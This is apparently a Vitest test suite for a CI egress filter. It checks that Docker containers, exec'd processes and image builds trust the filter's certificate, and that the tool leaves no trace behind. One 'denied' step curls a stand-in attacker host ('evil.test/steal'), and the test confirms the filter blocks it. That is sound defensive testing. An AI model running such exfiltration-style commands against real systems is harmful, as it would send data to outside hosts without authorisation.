import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Job, type JobResult, reached, runJob, startJob, transcript, WORLD } from '../runner/runner.ts';
import { DOCKER, startDocker } from './docker-lab.ts';
import { traces } from './guard-lab.ts';

/** What covers the runtimes of the machine. */
const COVERS = "awk '$5 ~ /bin\\/(runc|crun)$/ { print $5 }' /proc/self/mountinfo";

const docker = (name: string, ...lines: string[]) => ({
  name,
  run: ['set +e', 'exec 2>&1', `docker() { ${DOCKER} "$@"; }`, ...lines, 'true'].join('\n'),
});

describe('containers of a job', () => {
  let whole: Job;
  let job: JobResult;
  beforeAll(async () => {
    whole = await startJob({
      hosted: false,
      action: { with: { policy: 'ok.test\n' } },
      before(machine) {
        startDocker(machine);
        machine.inside([DOCKER, 'run', '-d', '--name', 'early', 'image', 'sleep', '600']);
      },
      steps: [
        docker('up', COVERS),
        docker('run', 'docker run --rm image curl -sS https://ok.test/run'),
        docker('hardened', 'docker run --rm --read-only --user 1234 --cap-drop ALL image curl -sS https://ok.test/hardened'),
        docker(
          'exec',
          'docker run -d --name long image sleep 600 >/dev/null',
          'docker exec long curl -sS https://ok.test/exec; docker diff long; docker rm -f long >/dev/null',
        ),
        docker('own', 'docker run --rm -e SSL_CERT_FILE=/own -e CURL_CA_BUNDLE= image env', 'docker inspect -f "{{.Config.Env}}" image'),
        docker('early', 'docker exec early env'),
        docker(
          'build',
          String.raw`printf 'FROM image\nRUN curl -sS https://ok.test/build >/page\n' >Dockerfile`,
          'for kit in 0 1; do DOCKER_BUILDKIT=$kit docker build -q -t built$kit . >/dev/null',
          '  docker run --rm built$kit cat /page; docker inspect -f "env {{.Config.Env}}" built$kit; docker create --name made$kit built$kit true >/dev/null',
          '  docker export made$kit | tar -t | grep -c .; docker export made$kit | tar -t | grep -i egress; done',
        ),
        docker('own devices', 'docker run --rm -v /dev:/dev image curl -sS https://ok.test/devices', 'ls /dev | grep -c egress'),
        docker(
          'denied',
          'docker run --rm image curl -sS --max-time 10 https://evil.test/steal',
          `docker run --rm image curl -sSk --max-time 10 https://${WORLD.evil}/steal`,
        ),
      ],
    });
    job = await whole.completed();
  });
  afterAll(() => whole?.stop());

  const logOf = (name: string): string => job.step(name).log;

  test('trust the authority: those of run, and of other users without a writable file', () => {
    expect(job.conclusion, transcript(job)).toBe('success');
    expect(logOf('up')).toMatch(/^\/usr\/s?bin\/runc$/m);
    for (const name of ['run', 'hardened']) expect(logOf(name)).toBe(`hello from ok.test/${name} by GET HTTP/2.0\n`);
    expect(job.log).toContainEqual(expect.objectContaining({ type: 'https', policy: 'allow', url: 'https://ok.test/run', method: 'GET' }));
  });

  test('so do processes that are started in them later, and nothing of it is in what a container has changed', () => {
    expect(logOf('exec')).toBe('hello from ok.test/exec by GET HTTP/2.0\n');
  });

  test('what a container or its image says itself is left alone', () => {
    expect(logOf('own')).toMatch(/^SSL_CERT_FILE=\/own$/m);
    expect(logOf('own')).toMatch(/^CURL_CA_BUNDLE=$/m);
    expect(logOf('own')).toMatch(/^NODE_EXTRA_CA_CERTS=\/dev\/egress-filter-ca\.pem$/m);
    expect(logOf('own')).toMatch(/^\[(?:PATH=\S*)?\]$/m);
  });

  test('one that was there before is not told of files that it has not', () => {
    expect(logOf('early')).toContain('PATH=');
    expect(logOf('early')).not.toContain('egress-filter');
  });

  test('steps of a build trust it, with both builders, and the image has nothing of it', () => {
    const files = String.raw`\d+`;
    const one = `hello from ok\\.test/build by GET HTTP/2\\.0\nenv \\[PATH=[^ ]*\\]\n${files}\n`;
    expect(logOf('build')).toMatch(new RegExp(`^${one}${one}$`));
  });

  test("a container that has the machine's own /dev is left alone, and so is that", () => {
    expect(logOf('own devices')).toMatch(/certificate/i);
    expect(logOf('own devices')).toMatch(/^0$/m);
  });

  test('of what the policy does not name the world sees nothing', () => {
    expect(logOf('denied')).toMatch(/^curl: \(6\).*evil\.test\negress-filter denied this request/);
    expect(reached(job, WORLD.evil)).toEqual([]);
  });

  test('at the end of the job nothing of it is left on the machine', async () => {
    await whole.machine.until('the end of the guard', () => (traces(whole.machine).length === 0 ? true : undefined));
    const after = whole.machine.inside(['sh', '-c', `${COVERS}; runc --version; ${DOCKER} run --rm image env`]).stdout;
    expect(after).toMatch(/^runc version/);
    expect(after).toContain('PATH=');
    expect(after).not.toContain('egress-filter');
  });
});

test('container-certs: false', async () => {
  const job = await runJob({
    action: { with: { policy: 'ok.test\n', 'container-certs': 'false' } },
    before: startDocker,
    steps: [docker('run', COVERS, 'docker run --rm image env', 'docker run --rm image curl -sS https://ok.test/run')],
  });
  expect(job.conclusion, transcript(job)).toBe('success');
  expect(job.step('run').log).toMatch(/curl: \(60\)/);
  expect(job.step('run').log).not.toMatch(/egress-filter|runc|crun/);
  expect(job.seen.filter(({ url }) => url === '/run')).toEqual([]);
});
